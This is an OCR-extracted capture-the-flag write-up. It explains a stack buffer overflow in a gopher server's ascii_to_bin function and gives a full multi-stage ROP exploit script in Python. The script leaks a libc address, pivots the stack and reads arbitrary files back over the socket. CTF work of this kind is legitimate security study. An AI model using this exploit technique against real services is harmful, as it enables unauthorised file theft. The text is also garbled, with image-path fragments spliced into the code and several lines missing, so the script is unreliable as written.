gopherd is a linux elf32 gopher server which respond to simple requests:

  • a request just composed of "\r\n" will make gopherd return its list of files,
  • a request "MD5\r\n" will make gopherd return the content of the file with the matching MD5.

Unfortunaly, the server replaces the contents of any file called "FLAG" by "ACCESS DENIED"

Step 1: The vuln

The vuln is in the function ascii_to_bin used to transform ascii MD5 to binary MD5. A simple buffer overflow can occur because the output buffer (in the caller stack frame) is too small to handle a big string.

So by requesting a long string, we will be able to rewrite the return address of the caller function.

But there is another problem in ascii_to_bin function! The function logically uses two ascii chars to generate one bin char but iters over strlen(input_string) so it generates the good binary for the hash we send but also write len(input_string) garbage after, based on what comes after input_string that we can’t control.

ascii_to_bin vulnerable function

So, if we just give gopherd a hash that will rewrite the return address of the caller: we will fill the caller args with garbage. So here is a part of read_from_client:read_from_client call ascii_to_bin and hashlist_find

We can see that, directly after the call to ascii_to_bin, the function calls hashlist_find with haslist_addr as first argument. hashlist_addr is an argument of the caller that have been randomly rewritten by ascii to bin.

So to pass the call function to hashlist_find, hashlist_addr need to be a valid pointer with [ptr + 4] == 0 (because hashlist_find simply iters on the values in [ptr +4] and zero will make it return immediately without any problem. An address from the beginning of .data will be perfect.

Step 2: the sploit

So, at this point, here is the format of our exploit string:


It seems that ROP would be a good idea here, so let’s start! The first thing to do is to set ret_addr at a pop_pop_ret address to remove hashlist_addr from the stack. After that, we will be in a totally controlled ROP environment.

BUT: there is another problem! The length of the read that the gopherd do is just 255 bytes long. And we know that:

  • each address is encoded on 8 bytes (addresses must be encoded in ascii for ascii_to_bin),
  • we consume 96 chars to trigger the vuln in a exploitable way.So we can just use: (255 - 96) / 8 = 19 values in our ROP payload: it won’t be enough to perform an "open/read/write" payload.

So we need to find a stack pivot! RopMount didn’t find a good stackpivot in gopherd.

But we know that ebCTF is using Ubuntu 12.04 LST: so let’s try in the libc!

$ python2 --dump "pop esp; ret"
    pop esp; ret:
    [base + 0x38b4] pop esp;ret

We have some nice and simple stack pivot in the remote libc!So the attack will consist in 3 phases:

  • Step 1:

    • ROP in gopherd to leak an address of the libc,
    • use this addr to build step 2 and 3.
  • Step 2:

    • ROP to read stage 3 and put it in at a known location and pivot on it!
  • Step 3:

    • full ROP with no length limitation,
    • I chose the following method:

      • read the file name from the socket,
      • open it,
      • read it,
      • send content to the socket!

Step 3: The full script

Here is the code used for each step with comments:

import socket
import struct
import sysimport ropmount
import time

LIBC = "./"

def int_to_strformat(x):
    """transform a raw int to the good str for remote ascii_to_bin"""
    nb = hex(struct.unpack(">I", struct.pack("<I", x))[0])[2:]
    return "0" * (8 - len(nb)) + nb

def ropchain_to_str(ropchain):"""transform a ropchain to a good str to remote ascii_to_bin"""
    str_rop = ""
    for addr, size in ropchain.stack.dump():
        str_rop += int_to_strformat(addr)
    return str_rop


##STEP 1
#The address in DATA with [ptr + 4] == 0
hashlist_addr = int_to_strformat(0x0804C0C0)

#We ROP on the gopherd binary
rpc = ropmount.rop_from_files(["./gopherd"])

#Here is the pop_pop_ret to clean the stack before ROP
pop_pop_ret = rpc.find("{2,2} pop REG32; ret")

#The presumed FD of our socket
socket_fd = 4

#Get the GOT addr of read
read_plt =  rpc.get_symbols()[''].value

#Build STEP1 ROP (write was not into gopherd PLT)
#Just doing send(socket_fd, read_got_addr, 4, 0)
ropchain = rpc.assemble("call send,{0},{1},4,0".format(socket_fd, read_plt))

#build the full exploit string for STEP1
            int_to_strformat(pop_pop_ret.vaddr.dump()[0]) + '42424242' + hashlist_addr + ropchain_to_str(ropchain))

#Send Step 1 and recv read addr in remote libc
s = socket.create_connection(REMOTE)
s.send(sploit + "\r\n")
addr = s.recv(4)
read_addr = struct.unpack("<I", addr)[0]

##STEP 2

#Now we ROP on gopherd AND the libc
full_rpc = ropmount.rop_from_files(["./gopherd", LIBC])

#Get libc_base from leaked addr + read offset into libc
libc_base = read_addr - full_rpc.mapfile[LIBC].get_symbols()['read'].value
print("libc base : {0}".format(hex(libc_base)))#Tell to ropmount where is located remote libc to craft RopStack

#Buffer used to store filename
buff = 0x0804C0C0
#New stack location for the pivot
new_stack = buff + 100

#Assemble STEP2 :
# - read STEP3 into new_stack
# - set esp to new_stack
ropchain_load = full_rpc.assemble('call read,{1},{0},0x1000; set esp,{0}'.format(new_stack, socket_fd))

#Build the full exploit string for STEP2
sploit = 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' + int_to_strformat(pop_pop_ret.vaddr.dump()[0]) + '42424242' + hashlist_addr + ropchain_to_str(ropchain_load)

#Send STEP2
s = socket.create_connection(REMOTE)
s.send(sploit + "\r\n")
#Now remote is waiting for STEP3


#The presumed socket of the newly opened file
file_fd = socket_fd -1

#Assemble STEP3
# - read filename from socket_fd into buff
# - open file
# - read file into into buff
# - write buff into socket_fd
last_rop =full_rpc.assemble("call read,{1},{0},50; call open,{0},4;call read,{2},{0},100; call write,{1},{0},100".format(buff, socket_fd, file_fd))#We are not passing through ascii_to_bin anymore: raw binary ROP

#Now remote is waiting for filename

#print content of filename

Step 4: Launch

$ python2libc base : 0xf76170000h my g0d, I am defeat.

        Here, take this: